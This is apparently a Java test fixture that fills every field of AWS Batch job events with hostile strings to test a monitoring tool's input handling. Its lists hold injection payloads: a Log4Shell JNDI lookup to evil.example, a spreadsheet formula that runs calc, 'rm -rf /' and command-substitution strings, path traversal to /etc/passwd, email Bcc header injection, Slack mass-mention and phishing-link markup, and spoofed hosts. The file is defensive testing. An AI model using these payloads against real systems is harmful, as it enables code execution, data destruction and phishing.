package dev.batchmonitor.reliability;

import static dev.batchmonitor.reliability.HostileEvent.attempt;
import static dev.batchmonitor.reliability.HostileEvent.beside;
import static dev.batchmonitor.reliability.HostileEvent.told;

import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.Stream;

/** Failures whose texts want to be more than text: each text in every field of which something is made. */
final class HostileTexts {
    /** As they stand in JSON, with its escapes. */
    private static final List<String> TEXTS = List.of(
            "\\ud800",
            "\\udc00\\ud800",
            "\\u0000",
            "a\\u0000b",
            "\\u202Egnp.exe\\u2066\\u200F\\u200B\\uFEFF",
            "\\u001B[31mred",
            "x\\r\\nBcc: all@example.com\\r\\n\\r\\nbody",
            "x\\u2028Runbook\\u2029\\u0085What to do",
            "<!channel> @here <@U123> <#C1|general>",
            "[click](https://evil.example/) <https://evil.example/|Runbook>",
            "`code` ```\\nblock\\n``` *bold* ~gone~",
            "\\\",\\\"cause\\\":\\\"NONE\\\\",
            "{\\\"level\\\":\\\"ERROR\\\"}\\n{\\\"level\\\":\\\"INFO\\\"}",
            "../../../etc/passwd",
            "%2e%2e%2f%00",
            "a/b?c=d#e&f=g",
            ":",
            " ",
            "\\t",
            "=cmd|' /C calc'!A0",
            "${jndi:ldap://evil.example/a}",
            "'; rm -rf / #",
            "$(touch /tmp/x)",
            "arn:aws:batch:evil.example.com/:1:job/x");

    /** Where only names of hosts may stand. */
    private static final List<String> HOSTS = List.of(
            "evil.example.com",
            "evil.example.com/",
            "evil.example.com#",
            "x@evil.example.com",
            "eu-west-1.evil.example",
            "127.0.0.1:80/",
            "-",
            "..",
            "\\u0000",
            "EU-WEST-1",
            "xn--80ak6aa92e");

    private HostileTexts() {}

    static Stream<HostileEvent> all() {
        return Stream.concat(
                TEXTS.stream().flatMap(HostileTexts::everywhere), HOSTS.stream().flatMap(HostileTexts::asHost));
    }

    private static Stream<HostileEvent> everywhere(String text) {
        String json = "\"" + text + "\"";
        String fields = HostileEvents.TEXTS.stream()
                .map(field -> "\"" + field + "\":" + json)
                .collect(Collectors.joining(","));
        return Stream.of(
                told("all texts of the job: " + text, "isCancelled", "false," + fields),
                attempt(
                        "all texts of the attempt: " + text,
                        "\"statusReason\":%1$s,\"container\":{\"exitCode\":1,\"reason\":%1$s,\"logStreamName\":%1$s,\"taskArn\":%1$s}"
                                .formatted(json)),
                told(
                        "names of containers: " + text,
                        "attempts",
                        "[{\"taskProperties\":[{\"taskArn\":%1$s,\"containers\":[{\"name\":%1$s,\"exitCode\":1,\"reason\":%1$s}]}]}]"
                                .formatted(json)),
                told(
                        "names of pods: " + text,
                        "eksAttempts",
                        "[{\"eksClusterArn\":%1$s,\"podName\":%1$s,\"nodeName\":%1$s,\"containers\":[{\"name\":%1$s,\"exitCode\":1}]}],\"attempts\":[]"
                                .formatted(json)),
                beside("account and time: " + text, "account", json + ",\"time\":" + json));
    }

    private static Stream<HostileEvent> asHost(String text) {
        String json = "\"" + text + "\"";
        return Stream.of(
                beside("a Region: " + text, "region", json),
                told("a Region of an ARN: " + text, "jobArn", "\"arn:aws:batch:" + text + ":111122223333:job/x\""),
                told(
                        "a Region of a log: " + text,
                        "container",
                        ("{\"logConfiguration\":{\"logDriver\":\"awslogs\",\"options\":{\"awslogs-region\":%1$s,"
                                        + "\"awslogs-group\":%1$s}}}")
                                .formatted(json)));
    }
}
